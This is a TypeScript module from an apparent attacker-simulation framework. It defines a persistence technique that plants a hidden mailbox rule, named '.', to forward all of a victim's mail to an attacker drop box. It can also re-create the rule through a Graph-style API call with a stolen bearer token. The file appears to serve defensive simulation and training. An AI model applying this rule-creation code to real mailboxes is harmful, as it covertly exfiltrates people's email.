import type { Door } from '../simulation/attacker/door.ts';
import { bearer } from '../simulation/attacker/tenant-client.ts';
import { inboxRule as ruleOf } from '../simulation/tenant/mailbox.ts';
import { attackersDropBox } from './planted/attackers-own.ts';
import { copyBy } from './planted/copy-by.ts';

/** A rule in the mailbox that sends every mail on. */
export const inboxRule: Door = {
  name: 'inbox-rule',
  shutBy: [{ step: 'disable-inbox-rules', in: 'cloud' }],
  plant(state, victim) {
    const forwardTo = [attackersDropBox];
    const mailbox = state.mailboxes.get(victim.objectId);
    mailbox?.inboxRules.push(ruleOf({ ruleIdentity: '16140901064495857665', name: '.', forwardTo }));
  },
  try: async (_, { probe, loot }) => copyBy('rule', await probe(loot.victim.userPrincipalName)),
  async reopen({ client, loot }, token) {
    const forwardTo = [{ emailAddress: { address: loot.dropBox } }];
    const rule = { displayName: '.', actions: { forwardTo } };
    const { status } = await client.post('/v1.0/me/mailFolders/inbox/messageRules', rule, bearer(token));
    return status > 0 && status < 300;
  },
};
